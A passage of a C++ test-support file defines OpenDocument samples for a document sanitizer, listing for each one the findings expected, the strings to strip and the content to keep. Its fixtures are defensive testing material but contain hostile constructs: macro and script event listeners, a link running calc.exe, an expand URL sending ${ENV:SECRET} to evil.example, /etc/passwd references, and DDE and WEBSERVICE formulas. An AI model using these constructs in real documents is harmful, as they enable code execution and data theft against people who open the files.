// The table of OpenDocument samples: a construct each, what must be reported, what must be gone, what must stay.
#include "tests/support/odf_samples.h"

#include <deque>
#include <string>
#include <vector>

#include "lib/stream/base64.h"
#include "tests/support/disguise.h"
#include "tests/support/image_builder.h"
#include "tests/support/odf_builder.h"
#include "tests/support/ooxml_builder.h"

namespace mugai::testing {
namespace {

using B = OdfBuilder;
using std::string;

string p(const string& inner) {
  return "<text:p>" + inner + "</text:p>";
}
string frame(const string& inner) {
  return p("<draw:frame draw:name=\"f\" text:anchor-type=\"as-char\" svg:width=\"2cm\" svg:height=\"1cm\">" + inner +
           "</draw:frame>");
}
string href(const string& address) {
  return " xlink:type=\"simple\" xlink:href=\"" + address + "\"";
}
string sheet(const string& cells) {
  return "<table:table table:name=\"S\"><table:table-row>" + cells + "</table:table-row></table:table>";
}
string cell(const string& formula) {
  return "<table:table-cell table:formula=\"" + formula +
         "\" office:value-type=\"float\" office:value=\"42\"><text:p>42</text:p></table:table-cell>";
}
string rect(const string& inner) {
  return "<draw:rect svg:width=\"2cm\" svg:height=\"1cm\">" + inner + "<text:p>shape</text:p></draw:rect>";
}
string listeners(const string& inner) {
  return "<office:event-listeners>" + inner + "</office:event-listeners>";
}
string script_listener(const string& target) {
  return "<script:event-listener script:language=\"ooo:script\" script:event-name=\"dom:load\"" + href(target) + "/>";
}
string base64_of(const string& bytes) {
  return base64::encode(as_bytes(bytes));
}
string item(const string& name, const string& type, const string& value) {
  return "<config:config-item config:name=\"" + name + "\" config:type=\"" + type + "\">" + value +
         "</config:config-item>";
}

Buffer text(const string& body) {
  return B::odt(body).build();
}
Buffer calc(const string& body) {
  return B::ods(body).build();
}
Buffer slide(const string& body) {
  return B::odp(body).build();
}
Buffer with_part(const string& name, std::string_view type, const string& bytes = "PAYLOAD") {
  return B::odt(p("kept")).part(name, type, bytes).build();
}
Buffer form(const string& attributes, const string& controls) {
  return text("<office:forms><form:form form:name=\"F\"" + attributes + ">" + controls + "</form:form></office:forms>" +
              p("kept"));
}
// A package whose raw members a sample changes.
template <class Change>
Buffer changed(Change change) {
  ZipFile file = B::odt(p("kept")).package();
  change(file);
  return to_buffer(build_zip(file));
}

const char* const kChart =
    "<chart:chart chart:class=\"chart:bar\" xlink:type=\"simple\" xlink:href=\"..\"><chart:plot-area "
    "table:cell-range-address=\"S.A1:S.B2\"><chart:series chart:values-cell-range-address=\"S.B1:S.B2\"/>"
    "</chart:plot-area></chart:chart>";

std::vector<Sample> code_samples() {
  return {
      {"odf/basic",
       "a.odt",
       false,
       {"ODF-001"},
       {"Basic", "PAYLOAD"},
       {"kept"},
       [] { return with_part("Basic/Standard/Module1.xml", "text/xml"); }},
      {"odf/python-script",
       "a.odt",
       false,
       {"ODF-001"},
       {"Scripts", "PAYLOAD"},
       {"kept"},
       [] { return with_part("Scripts/python/x.py", ""); }},
      {"odf/dialog",
       "a.odt",
       false,
       {"ODF-001"},
       {"Dialogs"},
       {"kept"},
       [] { return with_part("Dialogs/Standard/dialog-lb.xml", "text/xml"); }},
      {"odf/scripts-inline",
       "a.odt",
       false,
       {"ODF-002"},
       {"ALERT", "office:script"},
       {"kept"},
       [] {
         return B::odt(p("kept"))
             .front(
                 "<office:scripts><office:script script:language=\"JavaScript\">ALERT</office:script>"
                 "</office:scripts>")
             .build();
       }},
      {"odf/flat-basic",
       "a.fodt",
       false,
       {"ODF-002"},
       {"BASICCODE", "ooo:module"},
       {"kept"},
       [] {
         return B::odt(p("kept"))
             .front(
                 "<office:scripts><office:script script:language=\"ooo:Basic\"><ooo:libraries><ooo:library-embedded "
                 "ooo:name=\"Standard\"><ooo:module ooo:name=\"M\"><ooo:source-code>BASICCODE</ooo:source-code>"
                 "</ooo:module></ooo:library-embedded></ooo:libraries></office:script></office:scripts>")
             .flat();
       }},
      {"odf/empty-scripts",
       "a.odt",
       false,
       {},
       {"office:script"},
       {"kept"},
       [] {
         return B::odt(p("kept"))
             .front(
                 "<office:scripts><office:script script:language=\"ooo:Basic\"><ooo:libraries/></office:script>"
                 "</office:scripts>")
             .build();
       }},
      {"odf/event-document",
       "a.odt",
       false,
       {"ODF-003"},
       {"LibreLogo", "event-listener"},
       {"kept"},
       [] {
         return B::odt(p("kept"))
             .front("<office:scripts>" +
                    listeners(script_listener("vnd.sun.star.script:LibreLogo|LibreLogo.py$run?language=Python&amp;"
                                              "location=share")) +
                    "</office:scripts>")
             .build();
       }},
      {"odf/event-link",
       "a.odt",
       false,
       {"ODF-003"},
       {"evil.py"},
       {"click", "https://town.example/"},
       [] {
         return text(p("<text:a" + href("https://town.example/") + ">" +
                       listeners(script_listener("vnd.sun.star.script:../evil.py$x?language=Python")) +
                       "click</text:a>"));
       }},
      {"odf/event-shape",
       "a.odg",
       false,
       {"ODF-003"},
       {"macro-name", "event-listeners"},
       {"shape"},
       [] {
         return B::odg(rect(listeners("<script:event-listener script:language=\"StarBasic\" "
                                      "script:macro-name=\"Standard.M.x\" script:event-name=\"on-click\"/>")))
             .build();
       }},
      {"odf/action-program",
       "a.odp",
       false,
       {"ODF-004"},
       {"calc.exe", "event-listeners"},
       {"shape"},
       [] {
         return slide(
             rect(listeners("<presentation:event-listener script:event-name=\"dom:click\" "
                            "presentation:action=\"execute\"" +
                            href("file:///C:/calc.exe") + "/>")));
       }},
      {"odf/action-verb",
       "a.odp",
       false,
       {"ODF-004"},
       {"presentation:verb"},
       {"shape"},
       [] {
         return slide(
             rect(listeners("<presentation:event-listener script:event-name=\"dom:click\" "
                            "presentation:action=\"verb\" presentation:verb=\"0\"/>")));
       }},
      {"odf/action-sound",
       "a.odp",
       false,
       {"ODF-004"},
       {"evil.wav"},
       {"shape"},
       [] {
         return slide(
             rect(listeners("<presentation:event-listener script:event-name=\"dom:click\" "
                            "presentation:action=\"next-page\"><presentation:sound" +
                            href("http://evil.example/evil.wav") + "/></presentation:event-listener>")));
       }},
      {"odf/action-jump",
       "a.odp",
       false,
       {},
       {},
       {"shape", "next-page", "show"},
       [] {
         return slide(
             rect(listeners("<presentation:event-listener script:event-name=\"dom:click\" "
                            "presentation:action=\"next-page\"/><presentation:event-listener "
                            "script:event-name=\"dom:click\" presentation:action=\"show\"" +
                            href("#page1") + "/>")));
       }},
      {"odf/animation-command",
       "a.odp",
       false,
       {"ODF-005"},
       {"anim:command", "evil.wav"},
       {"shape", "anim:par"},
       [] {
         return slide(rect("") +
                      "<anim:par presentation:node-type=\"timing-root\"><anim:command "
                      "anim:command=\"verb\"><anim:param anim:name=\"v\" anim:value=\"0\"/></anim:command>"
                      "<anim:audio" +
                      href("http://evil.example/evil.wav") + "/></anim:par>");
       }},
      {"odf/execute-macro",
       "a.odt",
       false,
       {"ODF-006"},
       {"execute-macro"},
       {"press me"},
       [] {
         return text(p("<text:execute-macro text:name=\"M\">" + listeners(script_listener("vnd.sun.star.script:x")) +
                       "press me</text:execute-macro>"));
       }},
      {"odf/script-field",
       "a.odt",
       false,
       {"ODF-006"},
       {"CODE"},
       {"kept"},
       [] { return text(p("kept<text:script script:language=\"JavaScript\">CODE</text:script>")); }},
      {"odf/auto-reload",
       "a.odt",
       false,
       {"ODF-006"},
       {"evil.example"},
       {"kept", "LibreOffice"},
       [] {
         return B::odt(p("kept"))
             .meta("<meta:generator>LibreOffice/7.4</meta:generator><meta:auto-reload" + href("http://evil.example/") +
                   " meta:delay=\"PT1S\"/><meta:template" + href("http://evil.example/t.ott") + "/>")
             .build();
       }},
      {"odf/transformation",
       "a.odt",
       false,
       {"ODF-006"},
       {"evil.example"},
       {"kept"},
       [] {
         return B::odt(p("kept"))
             .root_attributes(
                 " xmlns:grddl=\"http://www.w3.org/2003/g/data-view#\" "
                 "grddl:transformation=\"http://evil.example/x.xsl\"")
             .build();
       }},
      {"odf/configuration",
       "a.odt",
       false,
       {"ODF-018"},
       {"Configurations2", "PAYLOAD"},
       {"kept"},
       [] { return with_part("Configurations2/accelerator/current.xml", ""); }},
      {"odf/configuration-empty",
       "a.odt",
       false,
       {},
       {"Configurations2"},
       {"kept"},
       [] { return with_part("Configurations2/accelerator/current.xml", "", ""); }},
  };
}

std::vector<Sample> link_samples() {
  return {
      {"odf/link-command",
       "a.odt",
       false,
       {"ODF-007"},
       {"vnd.libreoffice.command"},
       {"click"},
       [] { return text(p("<text:a" + href("vnd.libreoffice.command:SaveAs") + ">click</text:a>")); }},
      {"odf/link-macro",
       "a.odt",
       false,
       {"ODF-007"},
       {"macro:"},
       {"click"},
       [] { return text(p("<text:a" + href("macro:///Standard.M.x()") + ">click</text:a>")); }},
      {"odf/link-smb",
       "a.odg",
       false,
       {"ODF-007"},
       {"smb:"},
       {"shape"},
       [] { return B::odg("<draw:a" + href("smb://evil.example/x") + ">" + rect("") + "</draw:a>").build(); }},
      {"odf/link-hidden-scheme",
       "a.odt",
       false,
       {"ODF-007"},
       {"%63ommand", "slot"},
       {"click"},
       [] { return text(p("<text:a" + href("slot%3a5000") + ">click</text:a>")); }},
      {"odf/link-area",
       "a.odt",
       false,
       {"ODF-007"},
       {"file:"},
       {"draw:image-map"},
       [] {
         return text(frame("<draw:text-box><text:p>x</text:p></draw:text-box><draw:image-map><draw:area-rectangle" +
                           href("file:///etc/passwd") +
                           " svg:x=\"0cm\" svg:y=\"0cm\" svg:width=\"1cm\" svg:height=\"1cm\"/></draw:image-map>"));
       }},
      {"odf/links-good",
       "a.odt",
       false,
       {},
       {},
       {"https://town.example/?a=1", "mailto:info@town.example", "#Chapter 1|outline", "_blank"},
       [] {
         return text(p("<text:a" + href("https://town.example/?a=1") +
                       " office:target-frame-name=\"_blank\">a</text:a><text:a" + href("mailto:info@town.example") +
                       ">b</text:a><text:a" + href("#Chapter 1|outline") + ">c</text:a>"));
       }},
      {"odf/expand",
       "a.odt",
       false,
       {"ODF-008", "ODF-009"},
       {"vnd.sun.star.expand", "SECRET"},
       {"Pictures/placeholder"},
       [] {
         return text(frame("<draw:image" + href("vnd.sun.star.expand:http://evil.example/?${ENV:SECRET}") + "/>"));
       }},
      {"odf/expand-setting",
       "a.odp",
       false,
       {"ODF-008", "ODF-019"},
       {"$(home)"},
       {"shape"},
       [] {
         return B::odp(rect(""))
             .settings(item("BitmapTableURL", "string", "$(home)/x.sob") +
                       item("ColorTableURL", "string", "$(inst)/share/palette/standard.soc"))
             .build();
       }},
      {"odf/expand-link",
       "a.odt",
       false,
       {"ODF-008"},
       {"$(user)"},
       {"click"},
       [] { return text(p("<text:a" + href("http://evil.example/$(user)\\x") + ">click</text:a>")); }},
      {"odf/picture-remote",
       "a.odt",
       false,
       {"ODF-009"},
       {"evil.example"},
       {"placeholder.png"},
       [] { return text(frame("<draw:image" + href("http://evil.example/pixel.png") + "/>")); }},
      {"odf/picture-unc",
       "a.odt",
       false,
       {"ODF-009"},
       {"evil.example"},
       {"placeholder.png"},
       [] { return text(frame("<draw:image" + href("//evil.example/share/x.png") + "/>")); }},
      {"odf/picture-outside",
       "a.odt",
       false,
       {"ODF-009"},
       {"passwd"},
       {"placeholder.png"},
       [] { return text(frame("<draw:image" + href("../../../etc/passwd") + "/>")); }},
      {"odf/fill-remote",
       "a.odg",
       false,
       {"ODF-009"},
       {"evil.example"},
       {"shape"},
       [] {
         return B::odg(rect(""))
             .styles("<draw:fill-image draw:name=\"F\"" + href("http://evil.example/x.png") + "/>")
             .build();
       }},
      {"odf/background-remote",
       "a.odt",
       false,
       {"ODF-009"},
       {"evil.example"},
       {"kept"},
       [] {
         return B::odt(p("kept"))
             .automatic(
                 "<style:style style:name=\"P1\" style:family=\"paragraph\"><style:paragraph-properties>"
                 "<style:background-image" +
                 href("file://evil.example/x.png") + "/></style:paragraph-properties></style:style>")
             .build();
       }},
      {"odf/bullet-remote",
       "a.odt",
       false,
       {"ODF-009"},
       {"evil.example"},
       {"list-level-style-image", "placeholder"},
       [] {
         return B::odt(p("kept"))
             .automatic("<text:list-style style:name=\"L1\"><text:list-level-style-image text:level=\"1\"" +
                        href("http://evil.example/b.png") + "/></text:list-style>")
             .build();
       }},
      {"odf/picture-good",
       "a.odt",
       false,
       {},
       {},
       {"Pictures/a.png", "IDAT"},
       [] {
         return B::odt(frame("<draw:image" + href("Pictures/a.png") + "/>"))
             .part("Pictures/a.png", "image/png", small_png_clean())
             .build();
       }},
      {"odf/picture-metadata",
       "a.odt",
       false,
       {"IMG-002"},
       {"PAYLOAD"},
       {"Pictures/a.png"},
       [] {
         string png = small_png();
         return B::odt(frame("<draw:image" + href("Pictures/a.png") + "/>"))
             .part("Pictures/a.png", "image/png", png + "PAYLOAD")
             .build();
       }},
      {"odf/picture-tiff",
       "a.odt",
       false,
       {"IMG-003"},
       {"PAYLOAD"},
       {"Pictures/a.tif", "II*"},
       [] {
         return B::odt(frame("<draw:image" + href("Pictures/a.tif") + "/>"))
             .part("Pictures/a.tif", "image/tiff", make_tiff(1, "PAYLOAD"))
             .build();
       }},
      {"odf/picture-webp",
       "a.fodt",
       false,
       {"IMG-003"},
       {"PAYLOAD", base64_of(make_webp("PAYLOAD"))},
       {"UklG"},
       [] {
         return B::odt(frame("<draw:image><office:binary-data>" + base64_of(make_webp("PAYLOAD")) +
                             "</office:binary-data></draw:image>"))
             .flat();
       }},
      {"odf/picture-tiff-damaged",
       "a.odt",
       false,
       {"IMG-011", "ODF-024"},
       {"II*"},
       {"placeholder.png"},
       [] {
         return B::odt(frame("<draw:image" + href("Pictures/a.tif") + "/>"))
             .part("Pictures/a.tif", "image/tiff", make_tiff(1, {}, true))
             .build();
       }},
      {"odf/picture-svm",
       "a.odt",
       false,
       {"ODF-024"},
       {"VCLMTF", "x.svm"},
       {"placeholder.png"},
       [] {
         return B::odt(frame("<draw:image" + href("Pictures/x.svm") + "/>"))
             .part("Pictures/x.svm", "", "VCLMTF" + string(40, 'x'))
             .build();
       }},
      {"odf/picture-eps",
       "a.odt",
       false,
       {"ODF-024", "IMG-019"},
       {"%!PS", "x.eps"},
       {"placeholder.png"},
       [] {
         return B::odt(frame("<draw:image" + href("Pictures/x.eps") + "/>"))
             .part("Pictures/x.eps", "image/x-eps", "%!PS-Adobe-3.0 EPSF-3.0\n")
             .build();
       }},
      {"odf/picture-type-lies",
       "a.odt",
       false,
       {"IMG-022"},
       {"Pictures/a.jpg"},
       {"Pictures/a.png"},
       [] {
         return B::odt(frame("<draw:image" + href("Pictures/a.jpg") + "/>"))
             .part("Pictures/a.jpg", "image/jpeg", small_png_clean())
             .build();
       }},
      {"odf/font-embedded",
       "a.odt",
       false,
       {"ODF-020"},
       {"PAYLOAD", "font-face-uri", "Fonts/"},
       {"kept", "MyFont"},
       [] {
         return B::odt(p("kept"))
             .front(
                 "<office:font-face-decls><style:font-face style:name=\"MyFont\" svg:font-family=\"MyFont\">"
                 "<svg:font-face-src><svg:font-face-uri" +
                 href("Fonts/x.ttf") + "/></svg:font-face-src></style:font-face></office:font-face-decls>")
             .part("Fonts/x.ttf", "application/x-font-ttf", "PAYLOAD")
             .build();
       }},
      {"odf/font-remote",
       "a.odt",
       false,
       {"ODF-020"},
       {"evil.example"},
       {"kept"},
       [] {
         return B::odt(p("kept"))
             .front("<office:font-face-decls><style:font-face style:name=\"F\"><svg:font-face-src><svg:font-face-uri" +
                    href("http://evil.example/f.ttf") +
                    "/></svg:font-face-src></style:font-face></office:font-face-decls>")
             .build();
       }},
  };
}

std::vector<Sample> object_samples() {
  return {
      {"odf/object-chart",
       "a.ods",
       false,
       {},
       {},
       {"Object 1/content.xml", "chart:bar", "opendocument.chart"},
       [] {
         return B::ods(sheet("<table:table-cell>" + frame("<draw:object" + href("./Object 1") + "/>") +
                             "</table:table-cell>"))
             .object("Object 1", "chart", kChart)
             .build();
       }},
      {"odf/object-formula",
       "a.odt",
       false,
       {},
       {},
       {"math:mi", "StarMath"},
       [] {
         return B::odt(frame("<draw:object" + href("./Object 1") + "/>"))
             .formula_object("Object 1",
                             "<semantics><mrow><mi>x</mi></mrow><annotation encoding=\"StarMath 5.0\">x</annotation>"
                             "</semantics>")
             .build();
       }},
      {"odf/object-dirty",
       "a.ods",
       false,
       {"ODF-013"},
       {"evil.example"},
       {"chart:bar"},
       [] {
         string chart = kChart;
         chart.replace(chart.find("S.B1:S.B2"), 9, "'file:///evil.example/x.ods'#S.B1");
         return B::ods(sheet("<table:table-cell>" + frame("<draw:object" + href("./Object 1") + "/>") +
                             "</table:table-cell>"))
             .object("Object 1", "chart", chart)
             .build();
       }},
      {"odf/object-ole",
       "a.odt",
       false,
       {"ODF-010"},
       {"PAYLOAD", "object-ole", "class-id"},
       {"ObjectReplacements/Object 1", "IDAT"},
       [] {
         return B::odt(frame("<draw:object-ole draw:class-id=\"00020906-0000-0000-c000-000000000046\"" +
                             href("./Object 1") + "/><draw:image" + href("./ObjectReplacements/Object 1") + "/>"))
             .part("Object 1", "application/vnd.sun.star.oleobject", "\xD0\xCF\x11\xE0PAYLOAD")
             .part("ObjectReplacements/Object 1", "image/png", small_png_clean())
             .build();
       }},
      {"odf/object-ole-svm",
       "a.odt",
       false,
       {"ODF-010", "ODF-024", "IMG-018"},
       {"VCLMTF", "ObjectReplacements"},
       {"placeholder.png"},
       [] {
         return B::odt(frame("<draw:object-ole" + href("./Object 1") + "/><draw:image" +
                             href("./ObjectReplacements/Object 1") + "/>"))
             .part("Object 1", "application/vnd.sun.star.oleobject", "\xD0\xCF\x11\xE0PAYLOAD")
             .part("ObjectReplacements/Object 1", "", "VCLMTF" + string(40, 'x'))
             .build();
       }},
      {"odf/object-ole-in-frames",
       "a.odt",
       false,
       {"ODF-010", "ODF-011"},
       {"VCLMTF", "floating-frame", "empty"},
       {"placeholder.png", "name=\"f\""},
       [] {
         return B::odt(frame("<draw:floating-frame" + href("http://evil.example/") + "/><draw:frame><draw:object-ole" +
                             href("./Object 1") + "/><draw:image" + href("Pictures/x.svm") + "/></draw:frame>") +
                       p("<draw:frame draw:name=\"empty\"><draw:plugin" + href("http://evil.example/") +
                         "/><svg:title>t</svg:title></draw:frame>"))
             .part("Pictures/x.svm", "", "VCLMTF" + string(40, 'x'))
             .build();
       }},
      {"odf/object-outside",
       "a.odt",
       false,
       {"ODF-010"},
       {"evil.example"},
       {"kept"},
       [] { return text(p("kept") + frame("<draw:object" + href("http://evil.example/x.odt") + "/>")); }},
      {"odf/object-unlisted",
       "a.odt",
       false,
       {"ODF-010"},
       {"chart:bar"},
       {"kept"},
       [] {
         return B::odt(p("kept") + frame("<draw:object" + href("./Object 1") + "/>"))
             .part("Object 1/content.xml", "text/xml", "<x>chart:bar</x>")
             .build();
       }},
      {"odf/plugin",
       "a.odp",
       false,
       {"ODF-011"},
       {"evil.mp4", "draw:plugin", "PAYLOAD"},
       {"page1"},
       [] {
         return B::odp(
                    "<draw:frame>"
                    "<draw:plugin draw:mime-type=\"application/vnd.sun.star.media\"" +
                    href("Media/evil.mp4") + "/></draw:frame>")
             .part("Media/evil.mp4", "video/mp4", "PAYLOAD")
             .build();
       }},
      {"odf/applet",
       "a.odt",
       false,
       {"ODF-011"},
       {"draw:applet", "Evil.class"},
       {"kept"},
       [] {
         return text(p("kept") + frame("<draw:applet draw:code=\"Evil.class\" draw:may-script=\"true\"" +
                                       href("http://evil.example/") + "/>"));
       }},
      {"odf/floating-frame",
       "a.odt",
       false,
       {"ODF-011"},
       {"evil.example"},
       {"kept"},
       [] { return text(p("kept") + frame("<draw:floating-frame" + href("http://evil.example/") + "/>")); }},
      {"odf/binary-good",
       "a.fodt",
       false,
       {},
       {},
       {"office:binary-data", "iVBORw0KGgo"},
       [] {
         return B::odt(frame("<draw:image><office:binary-data>" + base64_of(small_png_clean()) +
                             "</office:binary-data></draw:image>"))
             .flat();
       }},
      {"odf/binary-evil",
       "a.fodt",
       false,
       {"ODF-024", "IMG-018"},
       {"VkNMTVRG"},
       {"office:binary-data", "iVBORw0KGgo"},
       [] {
         return B::odt(frame("<draw:image><office:binary-data>" + base64_of("VCLMTF" + string(30, 'x')) +
                             "</office:binary-data></draw:image>"))
             .flat();
       }},
      {"odf/binary-not-base64",
       "a.fodt",
       false,
       {"ODF-028"},
       {"PAYLOAD!"},
       {"iVBORw0KGgo"},
       [] {
         return B::odt(frame("<draw:image><office:binary-data>PAYLOAD!</office:binary-data></draw:image>")).flat();
       }},
      {"odf/binary-ole",
       "a.fodt",
       false,
       {"ODF-010"},
       {"UEFZTE9BRA"},
       {"kept"},
       [] {
         return B::odt(p("kept") + frame("<draw:object-ole><office:binary-data>UEFZTE9BRA==</office:binary-data>"
                                         "</draw:object-ole>"))
             .flat();
       }},
      {"odf/table-preview",
       "a.odp",
       false,
       {"ODF-024"},
       {"VCLMTF", "placeholder"},
       {"in the table"},
       [] {
         return B::odp(
                    "<draw:frame svg:width=\"9cm\"><table:table><table:table-row><table:table-cell><text:p>in the "
                    "table</text:p></table:table-cell></table:table-row></table:table><draw:image" +
                    href("Pictures/TablePreview1.svm") + "/></draw:frame>")
             .part("Pictures/TablePreview1.svm", "", "VCLMTF" + string(40, 'x'))
             .build();
       }},
  };
}

std::vector<Sample> data_samples() {
  return {
      {"odf/section-source",
       "a.odt",
       false,
       {"ODF-012"},
       {"evil.example"},
       {"last text"},
       [] {
         return text("<text:section text:name=\"S\"><text:section-source" + href("http://evil.example/x.odt") +
                     " text:filter-name=\"writer8\"/>" + p("last text") + "</text:section>");
       }},
      {"odf/section-dde",
       "a.odt",
       false,
       {"ODF-012"},
       {"dde-source", "cmd"},
       {"last text"},
       [] {
         return text(
             "<text:section text:name=\"S\"><office:dde-source office:dde-application=\"cmd\" "
             "office:dde-topic=\"t\" office:dde-item=\"i\" office:automatic-update=\"true\"/>" +
             p("last text") + "</text:section>");
       }},
      {"odf/dde-field",
       "a.odt",
       false,
       {"ODF-012"},
       {"dde-connection", "soffice"},
       {"last value"},
       [] {
         return text(
             "<text:dde-connection-decls><text:dde-connection-decl office:name=\"D\" "
             "office:dde-application=\"soffice\" office:dde-topic=\"t\" office:dde-item=\"i\"/>"
             "</text:dde-connection-decls>" +
             p("<text:dde-connection text:connection-name=\"D\">last value</text:dde-connection>"));
       }},
      {"odf/dde-sheet",
       "a.ods",
       false,
       {"ODF-012"},
       {"dde-link", "soffice"},
       {"42"},
       [] {
         return calc(sheet("<table:table-cell><text:p>42</text:p></table:table-cell>") +
                     "<table:dde-links><table:dde-link><office:dde-source office:dde-application=\"soffice\"/>"
                     "</table:dde-link></table:dde-links>");
       }},
      {"odf/master",
       "a.odm",
       false,
       {"ODF-012"},
       {"chapter.odt", "text:global", "text-master"},
       {"last text"},
       [] {
         return B::odt("<text:section text:name=\"S\"><text:section-source" + href("../chapter.odt") + "/>" +
                       p("last text") + "</text:section>")
             .mimetype("application/vnd.oasis.opendocument.text-master")
             .build();
       }},
      {"odf/table-source",
       "a.ods",
       false,
       {"ODF-013"},
       {"evil.example"},
       {"42"},
       [] {
         return calc("<table:table table:name=\"S\"><table:table-source" + href("file://evil.example/x.ods") +
                     " table:refresh-delay=\"PT1S\"/><table:table-row><table:table-cell><text:p>42</text:p>"
                     "</table:table-cell></table:table-row></table:table>");
       }},
      {"odf/cell-range-source",
       "a.ods",
       false,
       {"ODF-013"},
       {"evil.example"},
       {"42"},
       [] {
         return calc(sheet("<table:table-cell><table:cell-range-source table:name=\"x\"" +
                           href("http://evil.example/x.csv") + "/><text:p>42</text:p></table:table-cell>"));
       }},
      {"odf/pilot-sql",
       "a.ods",
       false,
       {"ODF-013"},
       {"SELECT", "table:data-pilot-table "},
       {"kept"},
       [] {
         return calc(sheet("<table:table-cell><text:p>kept</text:p></table:table-cell>") +
                     "<table:data-pilot-tables><table:data-pilot-table table:name=\"P\" "
                     "table:target-range-address=\"S.A1:S.B2\"><table:database-source-sql table:database-name=\"d\" "
                     "table:sql-statement=\"SELECT 1\"/></table:data-pilot-table></table:data-pilot-tables>");
       }},
      {"odf/pilot-good",
       "a.ods",
       false,
       {},
       {},
       {"data-pilot-table", "S.A1:S.B2"},
       [] {
         return calc(sheet("<table:table-cell/>") +
                     "<table:data-pilot-tables><table:data-pilot-table table:name=\"P\" "
                     "table:target-range-address=\"S.D1:S.E2\"><table:source-cell-range "
                     "table:cell-range-address=\"S.A1:S.B2\"/></table:data-pilot-table></table:data-pilot-tables>");
       }},
      {"odf/validation-macro",
       "a.ods",
       false,
       {"ODF-013", "ODF-003"},
       {"error-macro", "evil"},
       {"content-validation"},
       [] {
         return calc(
             "<table:content-validations><table:content-validation table:name=\"v\" "
             "table:condition=\"of:cell-content()&gt;0\"><table:error-macro table:execute=\"true\"/>" +
             listeners(script_listener("vnd.sun.star.script:evil")) +
             "</table:content-validation></table:content-validations>" + sheet("<table:table-cell/>"));
       }},
      {"odf/data-provider",
       "a.ods",
       false,
       {"ODF-013"},
       {"evil.example"},
       {"42"},
       [] {
         return calc(sheet(cell("of:=6*7")) +
                     "<calcext:data-mappings><calcext:data-mapping "
                     "xlink:href=\"http://evil.example/x.csv\"/></calcext:data-mappings>");
       }},
      {"odf/range-outside",
       "a.ods",
       false,
       {"ODF-013"},
       {"evil.example"},
       {"Here"},
       [] {
         return calc(sheet("<table:table-cell/>") +
                     "<table:named-expressions><table:named-range table:name=\"Out\" "
                     "table:cell-range-address=\"'http://evil.example/x.ods'#$S.$A$1\"/><table:named-range "
                     "table:name=\"Here\" table:cell-range-address=\"$S.$A$1\"/></table:named-expressions>");
       }},
      {"odf/formula-webservice",
       "a.ods",
       false,
       {"ODF-014"},
       {"WEBSERVICE"},
       {"42"},
       [] { return calc(sheet(cell("of:=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example/&quot;)"))); }},
      {"odf/formula-dde",
       "a.ods",
       false,
       {"ODF-014"},
       {"DDE("},
       {"42"},
       [] { return calc(sheet(cell("of:=DDE(&quot;soffice&quot;;&quot;t&quot;;&quot;i&quot;)"))); }},
      {"odf/formula-external",
       "a.ods",
       false,
       {"ODF-014"},
       {"evil.example"},
       {"42"},
       [] { return calc(sheet(cell("of:=['file:///evil.example/x.ods'#$S.A1]"))); }},
      {"odf/formula-hyperlink",
       "a.ods",
       false,
       {"ODF-014"},
       {"HYPERLINK"},
       {"42"},
       [] { return calc(sheet(cell("of:=HYPERLINK(&quot;file:///c:/x.exe&quot;;&quot;x&quot;)"))); }},
      {"odf/formula-indirect",
       "a.ods",
       false,
       {"ODF-014"},
       {"evil"},
       {"42"},
       [] { return calc(sheet(cell("of:=INDIRECT(&quot;'file:///evil/x.ods'#$S.A1&quot;)"))); }},
      {"odf/formula-add-in",
       "a.ods",
       false,
       {"ODF-014"},
       {"MYMACRO"},
       {"42"},
       [] { return calc(sheet(cell("of:=MYMACRO(1)"))); }},
      {"odf/formula-error",
       "a.ods",
       false,
       {"ODF-014"},
       {"MYMACRO", "string-value", "error"},
       {"office:value-type=\"string\"", "#NAME?"},
       [] {
         return calc(
             sheet("<table:table-cell table:formula=\"of:=MYMACRO(1)\" office:value-type=\"string\" "
                   "office:string-value=\"\" calcext:value-type=\"error\"><text:p>#NAME?</text:p></table:table-cell>"));
       }},
      {"odf/formula-name-of-sheet",
       "a.ods",
       false,
       {},
       {},
       {"of:='S'.$$name"},
       [] { return calc(sheet(cell("of:='S'.$$name"))); }},
      {"odf/formula-foreign-language",
       "a.ods",
       false,
       {"ODF-014"},
       {"msoxl"},
       {"42"},
       [] { return calc(sheet(cell("msoxl:=cmd|'/c calc'!A1"))); }},
      {"odf/formula-other-prefix",
       "a.ods",
       false,
       {},
       {"zz:="},
       {"of:=SUM([.A1:.B2])"},
       [] {
         return B::ods(sheet(cell("zz:=SUM([.A1:.B2])")))
             .root_attributes(" xmlns:zz=\"urn:oasis:names:tc:opendocument:xmlns:of:1.2\"")
             .build();
       }},
      {"odf/formula-name",
       "a.ods",
       false,
       {"ODF-014"},
       {"WEBSERVICE"},
       {"#REF!", "Good"},
       [] {
         return calc(sheet("<table:table-cell/>") +
                     "<table:named-expressions><table:named-expression table:name=\"Bad\" "
                     "table:expression=\"of:=COM.MICROSOFT.WEBSERVICE([.A1])\"/><table:named-expression "
                     "table:name=\"Good\" table:expression=\"of:=SUM([.A1:.A3])\"/></table:named-expressions>");
       }},
      {"odf/formula-condition",
       "a.ods",
       false,
       {"ODF-014"},
       {"WEBSERVICE"},
       {"42"},
       [] {
         return B::ods(sheet(cell("of:=6*7")) +
                       "<calcext:conditional-formats><calcext:conditional-format calcext:target-range-address=\"S.A1\">"
                       "<calcext:condition calcext:apply-style-name=\"Bad\" "
                       "calcext:value=\"formula-is(COM.MICROSOFT.WEBSERVICE([.A1]))\"/>"
                       "</calcext:conditional-format></calcext:conditional-formats>")
             .automatic(
                 "<style:style style:name=\"ce1\" style:family=\"table-cell\"><style:map "
                 "style:condition=\"of:is-true-formula(COM.MICROSOFT.WEBSERVICE([.A1]))\" "
                 "style:apply-style-name=\"Bad\"/></style:style>")
             .build();
       }},
      {"odf/formulas-good",
       "a.ods",
       false,
       {},
       {},
       {"VLOOKUP", "of:cell-content-is-between(1,10)", "formula-is([.A1]&gt;3)", "cell-content()&gt;5",
        "HYPERLINK(&quot;https://town.example/&quot;"},
       [] {
         return B::ods(
                    "<table:content-validations><table:content-validation table:name=\"v\" "
                    "table:condition=\"of:cell-content-is-whole-number() and cell-content()&gt;5\"/>"
                    "</table:content-validations>" +
                    sheet(cell("of:=IF([.A1]&gt;0;VLOOKUP([.A1];[$S.$B$1:.$C$9];2;0);&quot;&quot;)") +
                          cell("of:=HYPERLINK(&quot;https://town.example/&quot;;&quot;town&quot;)")) +
                    "<calcext:conditional-formats><calcext:conditional-format calcext:target-range-address=\"S.A1\">"
                    "<calcext:condition calcext:apply-style-name=\"Good\" calcext:value=\"formula-is([.A1]&gt;3)\"/>"
                    "</calcext:conditional-format></calcext:conditional-formats>")
             .automatic(
